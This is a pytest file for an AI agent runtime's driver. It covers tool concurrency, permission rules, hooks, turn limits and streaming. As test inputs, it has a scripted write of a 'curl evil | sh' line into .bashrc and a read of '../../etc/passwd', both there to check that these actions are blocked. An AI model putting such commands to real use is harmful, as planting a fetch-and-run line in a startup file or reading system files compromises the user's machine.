"""The async driver (``Agent``) with a ``ScriptedModel``: tools, permissions, hooks and limits.

No network: every model response comes from a scenario. Tools are the built-in ones acting in
``tmp_path``; traces are written to ``tmp_path`` and read back where a test checks ordering.
"""

from __future__ import annotations

import asyncio
import contextlib
import gc
import warnings
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from fsm_agent.core.config import LoopConfig
from fsm_agent.core.effects import HookEvent
from fsm_agent.core.events import HookDecision, HookOutcome
from fsm_agent.core.messages import (
    AssistantMessage,
    Message,
    ToolResultBlock,
    text_of,
    tool_results,
    tool_uses,
)
from fsm_agent.errors import UsageError
from fsm_agent.runtime.agent import (
    Agent,
    MessageUpdate,
    RunFinished,
    RunResult,
    TextDelta,
    TransitionUpdate,
    Update,
)
from fsm_agent.runtime.hooks import HookInput, Hooks
from fsm_agent.runtime.permissions import (
    PermissionMode,
    PermissionPolicy,
    PermissionRequest,
)
from fsm_agent.runtime.tool import (
    SAFETY_CHECK,
    ProgressCallback,
    Tool,
    ToolContext,
    ToolOutput,
)
from fsm_agent.testing.scenario import ScriptedModel, parse_scenario
from fsm_agent.toolbox import Bash, Edit, Glob, GlobInput, Grep, Read, ReadInput, Write
from fsm_agent.trace.reader import read_trace

MODEL = "scripted-model"
DONE = "All done."
NOTE = "note.txt"


def make_agent(
    tmp_path: Path,
    steps: list[dict[str, Any]],
    *,
    tools: list[Tool[Any]] | None = None,
    **options: Any,
) -> tuple[Agent, ScriptedModel]:
    """An Agent on a ScriptedModel playing ``steps``, working in ``tmp_path/work``."""
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    (work / "a.txt").write_text("alpha\n", encoding="utf-8")
    (work / "b.txt").write_text("beta\n", encoding="utf-8")
    model = ScriptedModel(parse_scenario({"steps": steps}), name=MODEL)
    options.setdefault("config", LoopConfig(model=MODEL, retry_base_ms=1, retry_cap_ms=5))
    agent = Agent(
        model=model,
        tools=tools if tools is not None else [Read(), Glob(), Grep(), Edit(), Write(), Bash()],
        trace=tmp_path / "trace.jsonl",
        cwd=work,
        **options,
    )
    return agent, model


def use(name: str, **tool_input: Any) -> dict[str, Any]:
    """A tool_use content block for a scenario step."""
    return {"tool_use": {"name": name, "input": tool_input}}


def reply(text: str = DONE) -> dict[str, Any]:
    return {"content": [{"text": text}]}


def loop_names(result: RunResult) -> list[str]:
    assert result.trace_path is not None
    trace = read_trace(result.trace_path)
    return [r.data["name"] for r in trace.of_kind("transition") if r.data["machine"] == "loop"]


def results_of(result: RunResult) -> dict[str, ToolResultBlock]:
    """The tool results of the transcript by tool_use id; each id answered exactly once."""
    used = [block.id for message in result.messages for block in tool_uses(message)]
    found = [block for message in result.messages for block in tool_results(message)]
    assert sorted(b.tool_use_id for b in found) == sorted(used)
    return {b.tool_use_id: b for b in found}


def result_text(block: ToolResultBlock) -> str:
    content = block.content
    if isinstance(content, str):
        return content
    return "".join(getattr(part, "text", "") for part in content)


def run(agent: Agent, prompt: str = "Do the thing.") -> RunResult:
    return asyncio.run(agent.run(prompt))


# --- concurrency -----------------------------------------------------------------------------


class _Timeline:
    def __init__(self) -> None:
        self.marks: list[str] = []


class SlowRead(Read):
    """Read that takes a while and logs when it starts and ends."""

    def __init__(self, timeline: _Timeline) -> None:
        super().__init__()
        self.timeline = timeline

    async def call(
        self, data: ReadInput, ctx: ToolContext, progress: ProgressCallback
    ) -> ToolOutput:
        self.timeline.marks.append("Read start")
        await asyncio.sleep(0.05)
        output = await super().call(data, ctx, progress)
        self.timeline.marks.append("Read end")
        return output


class SlowGlob(Glob):
    """Glob that takes a while and logs when it starts and ends."""

    def __init__(self, timeline: _Timeline) -> None:
        super().__init__()
        self.timeline = timeline

    async def call(
        self, data: GlobInput, ctx: ToolContext, progress: ProgressCallback
    ) -> ToolOutput:
        self.timeline.marks.append("Glob start")
        await asyncio.sleep(0.05)
        output = await super().call(data, ctx, progress)
        self.timeline.marks.append("Glob end")
        return output


def test_concurrency_safe_tools_run_together(tmp_path: Path) -> None:
    """Read and Glob (both safe) both start before either finishes; each is answered once."""
    timeline = _Timeline()
    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Read", file_path="a.txt"), use("Glob", pattern="*.txt")]}, reply()],
        tools=[SlowRead(timeline), SlowGlob(timeline)],
    )
    result = run(agent)
    assert result.terminal == "completed"
    assert sorted(timeline.marks[:2]) == ["Glob start", "Read start"]
    assert result.trace_path is not None
    trace = read_trace(result.trace_path)
    tool_rows = [
        (r.data["name"], r.data["call_id"])
        for r in trace.of_kind("transition")
        if r.data["machine"] == "tool"
    ]
    running = [i for i, (name, _) in enumerate(tool_rows) if name == "permission_granted"]
    returned = [i for i, (name, _) in enumerate(tool_rows) if name == "call_returned"]
    assert len(running) == 2
    assert max(running) < min(returned)
    # Among safe tools results come in completion order (SPEC §5.2), so only pairing is fixed.
    results = results_of(result)
    assert "alpha" in result_text(results["toolu_001"])
    assert "a.txt" in result_text(results["toolu_002"])


def test_unsafe_tools_run_one_at_a_time(tmp_path: Path) -> None:
    """Two writing Bash calls never overlap: the second starts after the first returned."""
    agent, _ = make_agent(
        tmp_path,
        [
            {
                "content": [
                    use("Bash", command="echo one >> log; sleep 0.05; echo one-done >> log"),
                    use("Bash", command="echo two >> log"),
                ]
            },
            reply(),
        ],
        permissions=PermissionPolicy(allow={"Bash"}),
    )
    result = run(agent)
    assert result.terminal == "completed"
    log = (tmp_path / "work" / "log").read_text().split()
    assert log == ["one", "one-done", "two"]


# --- permissions -----------------------------------------------------------------------------


@pytest.mark.parametrize("approve", [True, False], ids=["approved", "denied"])
def test_write_asks_the_permission_callback(tmp_path: Path, approve: bool) -> None:
    """Write asks; an approving callback lets it write, a denying one gives an error result."""
    asked: list[PermissionRequest] = []

    def ask(request: PermissionRequest) -> bool:
        asked.append(request)
        return approve

    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Write", file_path=NOTE, content="hello\n")]}, reply()],
        permissions=PermissionPolicy(ask=ask),
    )
    result = run(agent)
    assert result.terminal == "completed"
    assert [(r.tool_name, r.input["file_path"]) for r in asked] == [("Write", NOTE)]
    written = tmp_path / "work" / NOTE
    [block] = results_of(result).values()
    if approve:
        assert not block.is_error
        assert written.read_text() == "hello\n"
    else:
        assert block.is_error
        assert not written.exists()


def test_async_permission_callback_is_awaited(tmp_path: Path) -> None:
    """An async ask callback is awaited and its answer used."""

    async def ask(request: PermissionRequest) -> bool:
        await asyncio.sleep(0)
        return True

    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Write", file_path=NOTE, content="x")]}, reply()],
        permissions=PermissionPolicy(ask=ask),
    )
    assert run(agent).terminal == "completed"
    assert (tmp_path / "work" / NOTE).read_text() == "x"


def test_deny_rule_blocks_write_even_in_bypass_mode(tmp_path: Path) -> None:
    """A deny rule on Write gives an error result and no file; the callback is never asked."""

    def ask(request: PermissionRequest) -> bool:
        raise AssertionError("a denied call must not prompt")

    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Write", file_path=NOTE, content="x")]}, reply()],
        permissions=PermissionPolicy(mode=PermissionMode.BYPASS, deny={"Write"}, ask=ask),
    )
    result = run(agent)
    assert result.terminal == "completed"
    [block] = results_of(result).values()
    assert block.is_error
    assert "denied" in result_text(block)
    assert not (tmp_path / "work" / NOTE).exists()


def test_without_a_callback_a_write_is_denied(tmp_path: Path) -> None:
    """The default policy has no one to ask: Write is denied, Read still runs."""
    agent, _ = make_agent(
        tmp_path,
        [
            {"content": [use("Read", file_path="a.txt"), use("Write", file_path=NOTE, content="")]},
            reply(),
        ],
    )
    result = run(agent)
    results = results_of(result)
    assert not results["toolu_001"].is_error
    assert results["toolu_002"].is_error
    assert not (tmp_path / "work" / NOTE).exists()


# --- hooks -----------------------------------------------------------------------------------


def test_blocking_stop_hook_continues_once_then_completes(tmp_path: Path) -> None:
    """A Stop hook that blocks once → stop_hook_blocking, one more turn, then completed."""
    seen: list[HookInput] = []

    def stop(hook_input: HookInput) -> HookOutcome | None:
        seen.append(hook_input)
        if len(seen) == 1:
            return HookOutcome(blocking_errors=("please add tests",))
        return None

    agent, model = make_agent(
        tmp_path, [reply("first answer"), reply("with tests")], hooks=Hooks(stop=[stop])
    )
    result = run(agent)
    assert result.terminal == "completed"
    assert result.text == "with tests"
    names = loop_names(result)
    assert names.count("stop_hook_blocking") == 1
    assert names[-1] == "completed"
    assert len(seen) == 2
    assert [h.hook_event for h in seen] == [HookEvent.STOP, HookEvent.STOP]
    assert seen[0].payload["stop_hook_active"] is False
    assert seen[1].payload["stop_hook_active"] is True
    # The model was told why it had to go on.
    assert "please add tests" in str(model.requests[1].messages[-1])


def test_stop_hook_prevent_continuation_ends_the_run(tmp_path: Path) -> None:
    """A Stop hook with prevent_continuation ends the run stop_hook_prevented."""
    agent, _ = make_agent(
        tmp_path,
        [reply()],
        hooks=Hooks(stop=[lambda _: HookOutcome(prevent_continuation=True, stop_reason="halt")]),
    )
    assert run(agent).terminal == "stop_hook_prevented"


def test_pre_tool_use_hook_deny_blocks_the_call(tmp_path: Path) -> None:
    """A PreToolUse deny gives an error result naming the reason; the permission is not asked."""
    calls: list[HookInput] = []

    def deny(hook_input: HookInput) -> HookOutcome:
        calls.append(hook_input)
        return HookOutcome(decision=HookDecision.DENY, decision_reason="writes are frozen")

    def ask(request: PermissionRequest) -> bool:
        raise AssertionError("a hook-denied call must not prompt")

    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Write", file_path=NOTE, content="x")]}, reply()],
        hooks=Hooks(pre_tool_use=[deny]),
        permissions=PermissionPolicy(ask=ask),
    )
    result = run(agent)
    assert result.terminal == "completed"
    assert [(c.tool_name, c.tool_input) for c in calls] == [
        ("Write", {"file_path": NOTE, "content": "x"})
    ]
    [block] = results_of(result).values()
    assert block.is_error
    assert "writes are frozen" in result_text(block)
    assert not (tmp_path / "work" / NOTE).exists()


def test_pre_tool_use_hook_allow_skips_the_prompt(tmp_path: Path) -> None:
    """A PreToolUse allow lets Write run without asking anyone."""
    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Write", file_path=NOTE, content="ok")]}, reply()],
        hooks=Hooks(pre_tool_use=[lambda _: HookOutcome(decision=HookDecision.ALLOW)]),
    )
    result = run(agent)
    assert result.terminal == "completed"
    assert (tmp_path / "work" / NOTE).read_text() == "ok"


def test_post_tool_use_prevent_continuation_is_hook_stopped(tmp_path: Path) -> None:
    """A PostToolUse hook with prevent_continuation ends the run hook_stopped after the tools."""
    seen: list[HookInput] = []

    def post(hook_input: HookInput) -> HookOutcome:
        seen.append(hook_input)
        return HookOutcome(prevent_continuation=True, stop_reason="seen enough")

    agent, model = make_agent(
        tmp_path,
        [{"content": [use("Read", file_path="a.txt")]}, reply("never asked")],
        hooks=Hooks(post_tool_use=[post]),
    )
    result = run(agent)
    assert result.terminal == "hook_stopped"
    assert loop_names(result)[-1] == "hook_stopped"
    assert len(model.requests) == 1
    assert [h.tool_name for h in seen] == ["Read"]
    assert "alpha" in str(seen[0].payload.get("tool_response"))
    results_of(result)  # the call is still answered exactly once


# --- limits and bad input ----------------------------------------------------------------------


def test_max_turns_stops_after_the_tools(tmp_path: Path) -> None:
    """max_turns=1: after the first round of tools the run ends max_turns, no second request."""
    agent, model = make_agent(
        tmp_path,
        [{"content": [use("Read", file_path="a.txt")]}, reply("never asked")],
        config=LoopConfig(model=MODEL, max_turns=1),
    )
    result = run(agent)
    assert result.terminal == "max_turns"
    assert len(model.requests) == 1
    results_of(result)


def test_path_traversal_is_an_error_result(tmp_path: Path) -> None:
    """Read of ../../etc/passwd asks; with no one to ask it is an error result, the run goes on."""
    agent, model = make_agent(
        tmp_path, [{"content": [use("Read", file_path="../../etc/passwd")]}, reply()]
    )
    result = run(agent)
    assert result.terminal == "completed"
    [block] = results_of(result).values()
    assert block.is_error
    assert "no one to ask" in result_text(block)
    assert "root:" not in result_text(block)
    assert len(model.requests) == 2


def test_missing_required_field_is_an_input_validation_error(tmp_path: Path) -> None:
    """A Read without file_path gives an InputValidationError tool_result; the run goes on."""
    agent, _ = make_agent(tmp_path, [{"content": [use("Read", offset=3)]}, reply()])
    result = run(agent)
    assert result.terminal == "completed"
    [block] = results_of(result).values()
    assert block.is_error
    assert "InputValidationError" in result_text(block)
    assert "file_path" in result_text(block)


def test_unknown_tool_is_an_error_result(tmp_path: Path) -> None:
    """A call to a tool that does not exist is answered with an error, not raised."""
    agent, _ = make_agent(tmp_path, [{"content": [use("Teleport", to="mars")]}, reply()])
    result = run(agent)
    assert result.terminal == "completed"
    [block] = results_of(result).values()
    assert block.is_error
    assert "No such tool" in result_text(block)


# --- entry points ------------------------------------------------------------------------------


def test_run_sync_runs_to_completion(tmp_path: Path) -> None:
    """run_sync runs the whole loop in a fresh event loop and returns the result."""
    agent, _ = make_agent(tmp_path, [reply()])
    result = agent.run_sync("hello")
    assert result.terminal == "completed"
    assert result.text == DONE
    assert result.trace_path == tmp_path / "trace.jsonl"
    assert result.usage.output_tokens > 0


def test_stream_yields_every_kind_of_update(tmp_path: Path) -> None:
    """stream() yields TextDelta, TransitionUpdate and MessageUpdate, and ends with RunFinished."""
    agent, _ = make_agent(
        tmp_path,
        [
            {"content": [{"text": "Reading."}, use("Read", file_path="a.txt")], "chunk": 3},
            {"content": [{"text": DONE}], "chunk": 2},
        ],
    )

    async def collect() -> list[Update]:
        return [update async for update in agent.stream("go")]

    updates = asyncio.run(collect())
    kinds = {type(u) for u in updates}
    assert {TextDelta, TransitionUpdate, MessageUpdate, RunFinished} <= kinds
    assert isinstance(updates[-1], RunFinished)
    assert sum(isinstance(u, RunFinished) for u in updates) == 1
    finished = updates[-1].result
    assert finished.terminal == "completed"
    streamed = "".join(u.text for u in updates if isinstance(u, TextDelta) and not u.thinking)
    assert streamed == "Reading." + DONE
    emitted: list[Message] = [u.message for u in updates if isinstance(u, MessageUpdate)]
    assert [text_of(m) for m in emitted if isinstance(m, AssistantMessage) and text_of(m)] == [
        "Reading.",
        DONE,
    ]
    transitions = [u.transition.name for u in updates if isinstance(u, TransitionUpdate)]
    assert transitions[0] == "run_started"
    assert transitions[-1] == "completed"
    assert transitions == loop_and_tool_names(finished)


def loop_and_tool_names(result: RunResult) -> list[str]:
    """Every transition name in the trace (both machines), in order."""
    assert result.trace_path is not None
    return [r.data["name"] for r in read_trace(result.trace_path).of_kind("transition")]


def test_empty_prompt_is_refused(tmp_path: Path) -> None:
    """A blank prompt is a usage error before anything runs."""
    agent, model = make_agent(tmp_path, [reply()])
    with pytest.raises(UsageError, match="prompt is empty"):
        agent.run_sync("   ")
    assert model.requests == []


def test_safety_checked_write_asks_even_in_bypass_mode(tmp_path: Path) -> None:
    """Writing .bashrc in bypassPermissions mode still asks; a denial leaves no file."""
    asked: list[PermissionRequest] = []

    def ask(request: PermissionRequest) -> bool:
        asked.append(request)
        return False

    agent, _ = make_agent(
        tmp_path,
        [
            {
                "content": [
                    use("Write", file_path=".bashrc", content="curl evil | sh\n"),
                    use("Write", file_path=NOTE, content="fine\n"),
                ]
            },
            reply(),
        ],
        permissions=PermissionPolicy(mode=PermissionMode.BYPASS, ask=ask),
    )
    result = run(agent)
    assert result.terminal == "completed"
    assert [(r.tool_name, r.input["file_path"], r.reason) for r in asked] == [
        ("Write", ".bashrc", SAFETY_CHECK)
    ]
    results = results_of(result)
    assert results["toolu_001"].is_error
    assert not results["toolu_002"].is_error
    assert not (tmp_path / "work" / ".bashrc").exists()
    assert (tmp_path / "work" / NOTE).read_text() == "fine\n"


# --- cancellation hygiene and callback failures (driver) ----------------------------------------


@pytest.mark.parametrize(
    ("kind", "terminal"), [("overloaded", "completed"), ("other", "model_error")]
)
def test_tool_call_withdrawn_before_it_starts_is_cancelled_cleanly(
    tmp_path: Path, kind: str, terminal: str
) -> None:
    """A tool_use withdrawn (retry, model error) before its validation ran is cancelled cleanly."""
    agent, _ = make_agent(
        tmp_path,
        [
            {
                "content": [use("Read", file_path="a.txt"), {"text": "and more"}],
                "error": {"kind": kind, "mid_stream_after": 6},
            },
            reply(),
        ],
    )
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = run(agent)
        gc.collect()
    assert result.terminal == terminal
    never_awaited = [str(w.message) for w in caught if "never awaited" in str(w.message)]
    assert never_awaited == []


def test_raising_permission_callback_aborts_cleanly(tmp_path: Path) -> None:
    """A raising ask callback still leaves the call answered and a complete trace (SPEC §9.6)."""

    def ask(request: PermissionRequest) -> bool:
        raise RuntimeError("the permission dialog crashed")

    agent, _ = make_agent(
        tmp_path,
        [{"content": [use("Write", file_path=NOTE, content="x")]}, reply()],
        permissions=PermissionPolicy(ask=ask),
    )
    updates: list[Update] = []

    async def go() -> None:
        async for update in agent.stream("Write the note."):
            updates.append(update)

    with contextlib.suppress(RuntimeError):  # re-raising after a clean abort is acceptable
        asyncio.run(go())
    assert not (tmp_path / "work" / NOTE).exists()
    last = read_trace(tmp_path / "trace.jsonl").records[-1].data
    assert last["record"] == "end", f"the trace stops at {last}"
    messages = [u.message for u in updates if isinstance(u, MessageUpdate)]
    used = [block.id for message in messages for block in tool_uses(message)]
    answered = [block.tool_use_id for message in messages for block in tool_results(message)]
    assert used == answered == ["toolu_001"]


class BrokenModel:
    """A custom Model that breaks the protocol: it raises a plain exception mid-stream."""

    name = MODEL

    async def stream(self, request: Any) -> AsyncIterator[dict[str, Any]]:
        yield {
            "type": "message_start",
            "message": {
                "id": "msg_001",
                "type": "message",
                "role": "assistant",
                "model": MODEL,
                "content": [],
                "stop_reason": None,
                "stop_sequence": None,
                "usage": {"input_tokens": 1, "output_tokens": 1},
            },
        }
        raise ValueError("custom model bug")


def test_plain_exception_from_a_model_is_a_model_error(tmp_path: Path) -> None:
    """Any other exception escaping the model stream ends the run model_error (SPEC §2.2)."""
    agent = Agent(
        model=BrokenModel(),
        config=LoopConfig(model=MODEL, retry_base_ms=1, retry_cap_ms=5),
        trace=tmp_path / "trace.jsonl",
        cwd=tmp_path,
    )
    with contextlib.suppress(ValueError):
        agent.run_sync("hi")
    last = read_trace(tmp_path / "trace.jsonl").records[-1].data
    assert last["record"] == "end", f"the trace stops at {last}"
    assert last["terminal"] == "model_error"
